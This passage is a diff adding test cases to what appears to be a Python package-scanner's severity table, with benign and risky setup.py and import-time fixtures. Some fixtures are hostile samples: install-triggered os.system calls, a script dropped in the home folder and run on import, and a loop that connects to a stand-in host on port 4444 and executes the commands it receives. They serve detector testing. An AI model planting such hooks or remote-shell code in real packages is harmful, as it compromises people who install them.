@@ -608,6 +608,105 @@ SEVERITY_PATHS = {
             "        fh.write('echo 1')\n"
             "    subprocess.call(['sh', script])\n")},
         "mypkg/tool.py", 9, S.MEDIUM, "a shell script written and run on demand: medium"),
+    "pv101-publish-guard": SevPath("PV101", {"setup.py": (
+        "import os\n"
+        "import sys\n"
+        "from setuptools import setup\n"
+        "\n"
+        "if sys.argv[-1] == 'publish':\n"
+        "    os.system('twine upload dist/*')\n"
+        "    sys.exit()\n"
+        "setup(name='x')\n")},
+        "setup.py", 6, S.LOW, "a maintainer's publish branch, never run by pip"),
+    "pv101-publish-function": SevPath("PV101", {"setup.py": (
+        "import subprocess\n"
+        "import sys\n"
+        "\n"
+        "def publish():\n"
+        "    subprocess.run(['twine', 'upload', 'dist/*'])\n"
+        "\n"
+        "command = sys.argv[1]\n"
+        "if command in ('publish', 'release'):\n"
+        "    publish()\n")},
+        "setup.py", 5, S.LOW, "a function only a maintainer command calls"),
+    "pv101-install-guard": SevPath("PV101", {"setup.py": (
+        "import os\n"
+        "import sys\n"
+        "\n"
+        "if 'install' in sys.argv or sys.argv[-1] == 'publish':\n"
+        "    os.system('whoami')\n")},
+        "setup.py", 5, S.HIGH, "a guard pip satisfies: install-time"),
+    "pv101-negated-guard": SevPath("PV101", {"setup.py": (
+        "import os\n"
+        "import sys\n"
+        "\n"
+        "if sys.argv[-1] != 'publish':\n"
+        "    os.system('whoami')\n")},
+        "setup.py", 5, S.HIGH, "a negated guard runs on install"),
+    "pv101-upload-command-class": SevPath("PV101", {"setup.py": (
+        "import os\n"
+        "from setuptools import Command, setup\n"
+        "\n"
+        "class Upload(Command):\n"
+        "    def run(self):\n"
+        "        os.system('twine upload dist/*')\n"
+        "\n"
+        "setup(name='x', cmdclass={'upload': Upload})\n")},
+        "setup.py", 6, S.LOW, "a command class registered only as 'upload'"),
+    "pv101-command-class-also-install": SevPath("PV101", {"setup.py": (
+        "import os\n"
+        "from setuptools import Command, setup\n"
+        "\n"
+        "class Upload(Command):\n"
+        "    def run(self):\n"
+        "        os.system('whoami')\n"
+        "\n"
+        "cmds = {'upload': Upload}\n"
+        "cmds['install'] = Upload\n"
+        "setup(name='x', cmdclass=cmds)\n")},
+        "setup.py", 6, S.HIGH, "the same class registered again by subscript: it may run"),
+    "pv101-clear-on-import": SevPath("PV101", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import os\n"
+            "\n"
+            "os.system('clear')\n")},
+        "mypkg/__init__.py", 3, S.MEDIUM, "clearing the terminal on import"),
+    "pv404-received-command-run": SevPath("PV404", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/agent.py": (
+            "import socket\n"
+            "import subprocess\n"
+            "\n"
+            "def loop():\n"
+            "    s = socket.socket()\n"
+            "    s.connect(('example.invalid', 4444))\n"
+            "    while True:\n"
+            "        data = s.recv(1024)\n"
+            "        cmd = data.decode().strip()\n"
+            "        s.send(subprocess.getoutput(cmd).encode())\n")},
+        "mypkg/agent.py", 10, S.HIGH, "received bytes reach the shell through two names"),
+    "pv404-server-running-a-fixed-tool": SevPath("PV404", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/server.py": (
+            "import socket\n"
+            "import subprocess\n"
+            "\n"
+            "def serve(port):\n"
+            "    subprocess.Popen(['maxima', '-s', str(port)])\n"
+            "    with socket.socket() as s:\n"
+            "        s.bind(('127.0.0.1', port))\n"
+            "        s.listen()\n"
+            "        conn, _ = s.accept()\n"
+            "        return conn.recv(1024).decode()\n")},
+        "mypkg/server.py", 6, S.MEDIUM, "a server driving a fixed program: what it receives is"
+        " not run"),
+    "pv206-pathlib-at-import": SevPath("PV206", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import subprocess\n"
+            "from pathlib import Path\n"
+            "\n"
+            "script = Path.home() / 'update.pyw'\n"
+            "script.write_text('print(1)')\n"
+            "subprocess.Popen(['pythonw', str(script)])\n")},
+        "mypkg/__init__.py", 6, S.HIGH, "a script written with pathlib and started on import"),
     "pv305-sent-with-curl": SevPath("PV305", {"setup.py": (
         "import json\n"
         "import os\n"
